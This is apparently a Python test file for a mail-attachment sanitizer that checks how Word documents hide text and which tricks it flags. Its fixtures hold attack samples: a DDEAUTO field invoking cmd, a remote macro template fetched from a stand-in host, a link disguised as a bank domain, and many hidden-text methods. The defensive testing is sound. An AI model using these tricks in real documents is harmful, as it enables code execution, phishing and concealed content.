# ruff: noqa: E501 - samples are easier to read on one line
"""Word markup that no library writes: fields, boxes, changes, notes, outside templates."""

import io
import zipfile

from intake.mail import SanitizedDocument
from intake.sanitize.attachments import sanitize_document

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(body: str, **parts: str) -> SanitizedDocument:
    out = io.BytesIO()
    rels = "".join(
        f'<Relationship Id="r{n}" Type="x/{name}" Target="{name}.xml"/>' for n, name in enumerate(parts)
    )
    rels += '<Relationship Id="t" Type="x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/>'
    rels += '<Relationship Id="h" Type="x/hyperlink" Target="https://evil.example/x" TargetMode="External"/>'
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<a/>")
        z.writestr("word/document.xml", f"<w:document {W}><w:body>{body}</w:body></w:document>")
        z.writestr("word/_rels/document.xml.rels", f"<R>{rels}</R>")
        for name, text in parts.items():
            z.writestr(f"word/{name}.xml", THEME if text == "@" else f"<w:x {W}>{text}</w:x>")
    return sanitize_document(out.getvalue(), filename="a.docx", media_type=None)


def run(text: str, properties: str = "") -> str:
    return f"<w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r>"


def test_fields_show_their_result_and_dde_is_told() -> None:
    field = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd secret</w:instrText></w:r>'
    field += '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + run("shown")
    field += '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + run(" after")
    document = word(f"<w:p>{field}</w:p>")
    assert document.text == "shown after"
    assert {"dde", "remote-template"} <= {f.technique for f in document.findings}


def test_boxes_notes_and_shaded_white_are_seen_and_comments_are_not() -> None:
    box = f"<w:r><w:pict><w:txbxContent><w:p>{run('in a box')}</w:p></w:txbxContent></w:pict></w:r>"
    white = run("white on blue", '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="0000AA"/>')
    body = f"<w:p>{box}{white}<w:moveFrom>{run('secret move')}</w:moveFrom></w:p>"
    body += (
        f"<w:sdt><w:sdtContent><w:p><w:pPr><w:numPr/></w:pPr>{run('an item')}</w:p></w:sdtContent></w:sdt>"
    )
    body += f"<w:tbl><w:tr><w:trPr><w:hidden/></w:trPr><w:tc><w:p>{run('secret row')}</w:p></w:tc></w:tr>"
    body += f"<w:tr><w:tc><w:p>{run('cell')}</w:p></w:tc></w:tr></w:tbl>"
    body += '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
    note = f"<w:footnote w:id='2'><w:p>{run('a footnote')}</w:p></w:footnote>"
    note += f"<w:footnote w:id='3'><w:p>{run('secret note')}</w:p></w:footnote>"
    comment = f"<w:comment><w:p>{run('secret comment')}</w:p></w:comment>"
    document = word(body, footnotes=note, comments=comment)
    for words in ("in a box", "white on blue", "an item", "cell", "a footnote"):
        assert words in document.text
    assert "secret" not in document.text
    assert {"d7-comment", "d4-tracked", "d8-header-table-field"} <= {f.technique for f in document.findings}


def test_a_mail_without_a_name_is_known_by_its_header() -> None:
    mail = b"From: a@b.example\nTo: c@d.example\nSubject: x\nDate: Mon, 23 Nov 2026 09:00:00 +0000\n\nhello\n"
    assert sanitize_document(mail, filename=None, media_type=None).media_type == "message/rfc822"


THEME = '<a:theme xmlns:a="x"><a:themeElements><a:clrScheme><a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1>'
THEME += (
    '<a:lt1><a:sysClr val="window" lastClr="FFFFFF"/></a:lt1><a:accent1><a:srgbClr val="1F3864"/></a:accent1>'
)
THEME += "</a:clrScheme></a:themeElements></a:theme>"
HIDING = {
    "a theme colour": run("secret", '<w:color w:val="000000" w:themeColor="background1"/>'),
    "a shade of one": run("secret", '<w:color w:val="000000" w:themeColor="background1" w:themeShade="F8"/>'),
    "black on a black marker": run("secret", '<w:color w:val="000000"/><w:highlight w:val="black"/>'),
    "ink of its shading": run("secret", '<w:color w:val="0000AA"/><w:shd w:val="clear" w:fill="0000AA"/>'),
    "narrow letters": run("secret", '<w:w w:val="1"/>'),
    "a transparent fill": run("secret", "<w14:textFill xmlns:w14='y'><w14:noFill/></w14:textFill>"),
    "a toggle by style": run("secret", '<w:rStyle w:val="Ghost"/>'),
    "a style of a style": run("secret", '<w:rStyle w:val="Child"/>'),
}
SHOWING = {
    "white on a theme's blue": run(
        "shown", '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:themeFill="accent1"/>'
    ),
    "white on a marker": run("shown", '<w:color w:val="FFFFFF"/><w:highlight w:val="darkBlue"/>'),
    "a theme's dark": run("shown", '<w:color w:val="FFFFFF" w:themeColor="text1"/>'),
    "vanish taken back": run("shown", '<w:rStyle w:val="Ghost"/><w:vanish w:val="0"/>'),
}
STYLES = '<w:style w:type="character" w:styleId="Ghost"><w:rPr><w:vanish/></w:rPr></w:style>'
STYLES += '<w:style w:type="character" w:styleId="Child"><w:basedOn w:val="Ghost"/></w:style>'
STYLES += '<w:style w:type="paragraph" w:styleId="Pale" w:default="1"><w:rPr/></w:style>'
STYLES += '<w:style w:type="table" w:styleId="T"><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:tblStylePr w:type="firstRow">'
STYLES += '<w:tcPr><w:shd w:val="clear" w:fill="1F3864"/></w:tcPr></w:tblStylePr></w:style>'


def themed(body: str) -> SanitizedDocument:
    document = word(body, styles=STYLES, theme="@")
    assert document.status == "read", document.reason
    return document


def test_themes_styles_and_fills_decide_what_is_read() -> None:
    for name, piece in HIDING.items():
        document = themed(f"<w:p>{run('before ')}{piece}</w:p>")
        assert "secret" not in document.text, name
        assert document.findings, name
    for name, piece in SHOWING.items():
        assert "shown" in themed(f"<w:p>{piece}</w:p>").text, name


def test_a_table_style_shades_its_first_row_only() -> None:
    rows = "".join(
        f"<w:tr><w:tc><w:p>{run(t)}</w:p></w:tc></w:tr>" for t in ("shown head", "secret body", "secret end")
    )
    table = f'<w:tbl><w:tblPr><w:tblStyle w:val="T"/><w:tblLook w:val="0020"/></w:tblPr>{rows}</w:tbl>'
    document = themed(table)
    assert document.text == "shown head"


def test_flat_rows_far_boxes_and_unused_headers_are_not_read() -> None:
    flat = '<w:tbl><w:tr><w:trPr><w:trHeight w:val="2" w:hRule="exact"/></w:trPr>'
    flat += f"<w:tc><w:p>{run('secret row')}</w:p></w:tc></w:tr></w:tbl>"
    far = '<w:r><w:drawing><wp:anchor xmlns:wp="z"><wp:positionH><wp:posOffset>-99999999</wp:posOffset></wp:positionH>'
    far += f"<w:txbxContent><w:p>{run('secret box')}</w:p></w:txbxContent></wp:anchor></w:drawing></w:r>"
    vml = '<w:r><w:pict><v:shape xmlns:v="v" style="position:absolute;visibility:hidden"><v:textbox><w:txbxContent>'
    vml += f"<w:p>{run('secret shape')}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    line = f"<w:p><w:pPr><w:spacing w:line='2' w:lineRule='exact'/></w:pPr>{run('secret line')}</w:p>"
    document = word(
        f"{flat}<w:p>{far}{vml}{run('shown')}</w:p>{line}", header=f"<w:p>{run('secret head')}</w:p>"
    )
    assert document.text == "shown"
    assert len(document.findings) >= 5


def test_links_in_documents_are_judged_like_those_of_mails() -> None:
    link = f'<w:hyperlink r:id="h" xmlns:r="q">{run("bank.example")}</w:hyperlink>'
    document = word(f"<w:p>{link}</w:p>")
    assert document.text == "bank.example <https://evil.example/x>"
    assert "link-other-domain" in {f.technique for f in document.findings}
